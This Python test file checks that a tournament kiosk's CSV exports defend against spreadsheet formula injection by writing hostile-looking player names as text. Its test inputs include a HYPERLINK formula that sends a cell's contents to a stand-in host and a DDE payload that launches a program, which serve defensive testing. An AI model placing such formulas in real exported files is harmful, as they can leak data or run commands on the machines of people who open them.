"""Every CSV the product writes opens in a spreadsheet as data: a name typed as a formula
stays text, and numbers the product computes stay numbers."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

from aiohttp.test_utils import TestClient, TestServer
from money_helpers import Reports

from kiosk.base.csvcells import text_cell, to_csv, typed_text
from kiosk.commands.main import main
from kiosk.config.files import EventConfig
from kiosk.director.service import Director
from kiosk.director.web.app import make_app

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)", "-2+3", "=1+1"]
DEFENDED = {"'" + name for name in HOSTILE}


def _director(tmp_path: Path, money: dict) -> Director:
    cfg = EventConfig(name="csv-test", structure="turbo", seed=5, db=str(tmp_path / "e.db"),
                      money=money, start_stack=10000)
    d = Director(cfg)
    for i in range(12):
        name = HOSTILE[i] if i < len(HOSTILE) else f"Player {i + 1}"
        d.act({"kind": "register", "name": name, "card": "=card" if i == 0 else None})
    d.act({"kind": "start"})
    Reports(d).play_down(1)
    assert d.tour.finished_at is not None
    return d


def _export(tmp_path: Path, *flags: str) -> list[dict[str, str]]:
    out = tmp_path / "out.csv"
    assert main(["results", "--db", str(tmp_path / "e.db"), *flags, "--out", str(out)]) == 0
    return list(csv.DictReader(io.StringIO(out.read_text())))


def test_every_text_cell_that_starts_a_formula_gets_an_apostrophe() -> None:
    for start in "=+-@\t\r":
        assert text_cell(start + "x") == "'" + start + "x"
        assert typed_text(text_cell(start + "x")) == start + "x"
    assert text_cell("O'Brien") == "O'Brien" and typed_text("'quoted") == "'quoted"
    assert text_cell(-250) == -250   # a number the product computes is not a name
    assert to_csv(["name", "prize"], [["-2+3", -250], [None, 0]]) \
        == "name,prize\n'-2+3,-250\n,0\n"


def test_results_csv_and_site_export_write_names_as_text(tmp_path: Path) -> None:
    _director(tmp_path, {"buy_in": 100, "table": "shares", "shares": [5000, 3000, 2000]})
    rows = _export(tmp_path, "--csv")
    assert len(rows) == 12
    names = {r["name"] for r in rows}
    assert names >= DEFENDED and not set(HOSTILE) & names
    assert all(not r[c].startswith(("=", "+", "-", "@")) for r in rows for c in r)
    assert sorted(int(r["place"]) for r in rows) == list(range(1, 13))
    assert sum(int(r["prize"]) for r in rows) == 1200
    site = _export(tmp_path, "--site")
    assert list(site[0]) == ["place", "name", "prize", "country"] and len(site) == 3
    assert all(not r["name"].startswith(("=", "+", "-", "@")) for r in site)
    assert {r["name"] for r in site} == {r["name"] for r in rows if int(r["prize"])}


def test_satellite_winners_export_is_defended_and_imports_back_as_typed(
        tmp_path: Path) -> None:
    d = _director(tmp_path, {"buy_in": 100, "seat_value": 300})
    rows = _export(tmp_path, "--winners")
    won = {p.name for p in d.tour.players.values() if d.tour.prizes().get(p.id, 0) >= 300}
    assert len(rows) == len(won) == 4
    assert {r["name"] for r in rows} == {text_cell(n) for n in won}
    assert all(not r["name"].startswith(("=", "+", "-", "@")) for r in rows)
    # the target event imports the file and registers the names exactly as typed
    target = tmp_path / "target"
    target.mkdir()
    t = Director(EventConfig(name="target", structure="turbo", seed=1,
                             db=str(target / "e.db")))
    text = (tmp_path / "out.csv").read_text()
    added, errors = t.import_csv(text)
    assert (added, errors) == (4, [])
    assert {p.name for p in t.tour.players.values()} == won


def test_dashboard_results_csv_writes_names_as_text(tmp_path: Path) -> None:
    d = _director(tmp_path, {"buy_in": 100, "table": "shares", "shares": [5000, 3000, 2000]})

    async def go() -> tuple[str, str]:
        client = TestClient(TestServer(make_app(d)))
        await client.start_server()
        try:
            full = await (await client.get("/api/results.csv")).text()
            site = await (await client.get("/api/results.csv?site=1")).text()
        finally:
            await client.close()
        return full, site

    full, site = asyncio.run(go())
    names = {r["name"] for r in csv.DictReader(io.StringIO(full))}
    assert names >= DEFENDED and not set(HOSTILE) & names
    assert all(not r["name"].startswith(("=", "+", "-", "@"))
               for r in csv.DictReader(io.StringIO(site)))
